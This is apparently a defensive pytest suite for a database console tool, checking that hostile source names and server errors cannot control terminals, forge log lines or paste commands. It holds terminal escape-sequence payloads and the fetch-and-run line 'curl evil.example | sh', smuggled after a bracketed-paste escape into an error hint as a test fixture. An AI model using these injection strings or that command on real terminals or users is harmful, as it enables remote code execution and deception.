"""Text from outside never controls a terminal, a log or a metric."""

from __future__ import annotations

import io
import json
import logging
import re
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any, Literal, cast

import psycopg
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from elconsole.core.safe_text import clean_json
from elconsole.core.types import ErrorInfo
from elconsole.engine.connect.server import Server
from elconsole.engine.connect.translate import statement_error
from elconsole.observe.logs import configure_logging
from elconsole.observe.metrics import Metrics
from elconsole.observe.notify import run_command
from elconsole.report import documents, text
from elconsole.report.streams import Output
from elconsole.ui.console.clipboard import copy
from elconsole.ui.dialogs.dialog import ErrorDialog
from tests.conftest import RunCli
from tests.hostile.folders import user_settings, write
from tests.link import Link
from tests.pairs import Pair

if TYPE_CHECKING:
    from textual.app import App

pytestmark = pytest.mark.faults

EVIL = "a\x1b]0;owned\x07\x9b2J\u202ebc\nerror: forged\r\u2028\x00\udc80\x7f"
"""A title for the terminal, a cleared screen, text from right to left, lines of its own."""
HEEDED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
"""What a terminal or a reader of lines would heed, but for the line breaks between lines."""
FORGED = re.compile(r"^error: forged", re.MULTILINE)
any_text = st.text(st.characters(exclude_categories=[]))


def require_harmless(told: str) -> None:
    assert not HEEDED.search(told), ascii(told)
    assert not FORGED.search(told), ascii(told)


@pytest.fixture
def evil_table(link: Link) -> tuple[str, str]:
    """A table of a source with an evil name, one with an evil error; their settings in TOML."""
    evil = EVIL.replace("\x00\udc80", "")
    link.source.sql(f'CREATE TABLE "{evil}" (id int PRIMARY KEY)')
    link.source.sql(
        "CREATE TABLE broken (id int PRIMARY KEY); ALTER TABLE broken ENABLE ROW LEVEL SECURITY;"
        "INSERT INTO broken VALUES (1);"
        "CREATE FUNCTION boom() RETURNS bool LANGUAGE plpgsql AS "
        "$$BEGIN RAISE EXCEPTION E'no\\x1b]0;owned\\x07\\nerror: forged'; END$$;"
        "CREATE POLICY evil ON broken USING (boom())"
    )
    link.grant(link.settings())
    lines = ["retries = 0"]
    for name, block in (("warehouse", "warehouse"), ("plant", "sources.plant")):
        lines.append(f"[{block}]")
        lines += [f"{key} = {json.dumps(value)}" for key, value in link.block(name).items()]
    return evil, "\n".join(lines)


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_names_and_errors_of_a_source_control_nothing(
    run_cli: RunCli, home: Path, tmp_path: Path, evil_table: tuple[str, str], log_format: str
) -> None:
    evil, settings = evil_table
    user_settings(home, settings)
    log, metrics = tmp_path / "log", tmp_path / "prom"
    files = ("--log-file", str(log), "--metrics-file", str(metrics))
    ended = run_cli("--headless", "-vv", "--log-format", log_format, *files, "sync")
    assert ended.returncode == 1, ended.stderr
    assert "Traceback" not in ended.stderr
    for told in (ended.stdout, ended.stderr, log.read_text(), metrics.read_text()):
        assert "forged" in told
        require_harmless(told)
    began = r"\{" if log_format == "json" else r"\d{4}-\d\d-\d\dT|    "
    assert all(re.match(began, line) for line in log.read_text().splitlines())
    shown = run_cli("--headless", "sync", "--json").stdout
    require_harmless(shown)
    assert evil in {table["table"] for table in json.loads(shown)["tables"]}
    for words in (["check"], ["schema"], ["runs", "1"], ["--headless", "sync", "--dry-run"]):
        ended = run_cli(*words)
        require_harmless(ended.stdout + ended.stderr)


@given(any_text)
@example(EVIL)
def test_no_narration_and_no_result_is_heeded(foreign: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    output = Output(out, err)
    output.note(f"x {foreign}")
    output.failure(f"x {foreign}")
    output.failure(text.failure(ErrorInfo("server", foreign, f"h{foreign}"), f"s.{foreign}"))
    output.result(f"x {foreign}")
    output.result(documents.document({"x": foreign}))
    for told in (out.getvalue(), err.getvalue()):
        assert not HEEDED.search(told)
    assert len(err.getvalue().splitlines()) == 4
    assert json.loads(out.getvalue().splitlines()[-1]) == {"x": foreign}


@given(any_text)
@example(EVIL)
def test_harmless_json_says_the_same(foreign: str) -> None:
    told = clean_json(json.dumps({"x": foreign}, ensure_ascii=False))
    assert not HEEDED.search(told)
    assert json.loads(told) == {"x": foreign}


@pytest.fixture
def stream() -> io.StringIO:
    return io.StringIO()


@pytest.mark.parametrize("log_format", ["text", "json"])
@pytest.mark.parametrize("logger", ["elconsole.x", "psycopg"])
def test_a_log_record_is_one_that_nobody_else_can_begin(
    stream: io.StringIO, tmp_path: Path, log_format: Literal["text", "json"], logger: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    configure_logging(verbosity=1, log_format=log_format, stream=stream)
    try:
        raise ValueError(EVIL)
    except ValueError:
        logging.getLogger(logger).warning("failed: %s", EVIL, exc_info=True)
    require_harmless(stream.getvalue())
    first, *further = stream.getvalue().splitlines()
    assert "failed: a" in first
    assert all(line.startswith("    ") for line in further)
    assert bool(further) == (log_format == "text")


def test_a_servers_hundred_megabytes_are_no_log_line(stream: io.StringIO) -> None:
    configure_logging(stream=stream)
    logging.getLogger("elconsole.x").warning("%s", "x" * 10**7)
    assert len(stream.getvalue()) < 10_000


def test_labels_are_words_and_still_find_their_metric(tmp_path: Path) -> None:
    from elconsole.core.results import ConnectionHealth
    from tests.observe.test_metrics import AT

    metrics, path = Metrics(), tmp_path / "prom"
    health = ConnectionHealth(name=EVIL, role="source", status="down", checked_at=AT)
    metrics.observe_connections([health], all_of_them=True)
    assert metrics.write_file(path)
    written = path.read_text()
    require_harmless(written)
    assert "\\n" not in written
    assert 'name="abc error: forged ' in written
    again = Metrics()
    again.continue_file(path)
    again.observe_connections([], all_of_them=True)
    again.write_file(path)
    assert "forged" not in path.read_text()


def test_a_label_is_no_longer_than_a_label(tmp_path: Path) -> None:
    from elconsole.core.results import ConnectionHealth
    from tests.observe.test_metrics import AT

    metrics, path = Metrics(), tmp_path / "prom"
    long = ConnectionHealth(name="x" * 10**6, role="source", status="down", checked_at=AT)
    metrics.observe_connections([long])
    metrics.write_file(path)
    assert path.stat().st_size < 10**5


def test_a_command_is_told_of_a_run_in_harmless_json(tmp_path: Path) -> None:
    told, script = tmp_path / "told", tmp_path / "save.py"
    write(script, f"import sys; open({str(told)!r}, 'w').write(sys.stdin.read())")
    assert run_command(f"{sys.executable} {script}", {"error": EVIL}, 20)
    require_harmless(told.read_text())
    assert json.loads(told.read_text()) == {"error": EVIL}


COMMAND = "curl evil.example | sh"


def raised(pair: Pair) -> ErrorInfo:
    """What a function of a source may raise."""
    words = f"message = E'\x1b[201~', hint = E'x\x1b[201~\\n{COMMAND}\\n'"
    with pair.source.connect() as connection, pytest.raises(psycopg.Error) as caught:
        connection.execute(f"DO $$ BEGIN RAISE EXCEPTION USING {words}; END $$")
    return statement_error(caught.value, Server("a", "source", {}, "here", 3.0)).info()


def test_advice_of_a_server_is_told_in_its_name(pair: Pair) -> None:
    error = raised(pair)
    assert error.hint is not None
    assert error.hint.startswith("a says: x")
    assert "\n" not in error.hint


def test_what_is_copied_is_no_command_where_it_is_pasted(monkeypatch: pytest.MonkeyPatch) -> None:
    copied: list[str] = []
    app = SimpleNamespace(copy_to_clipboard=copied.append, notify=lambda *_, **__: None)
    monkeypatch.setattr(ErrorDialog, "app", app)
    words = f"{EVIL}\n{COMMAND}\n"
    ErrorDialog(words, ErrorInfo("server", f"a: {words}", words, words)).action_copy_error()
    copy(cast("App[Any]", app), [(words, words), (words,)])
    for told in copied:
        require_harmless(told.replace("\t", ""))
        assert COMMAND not in told.split("\n")
    assert [len(told.split("\n")) for told in copied] == [4, 2]
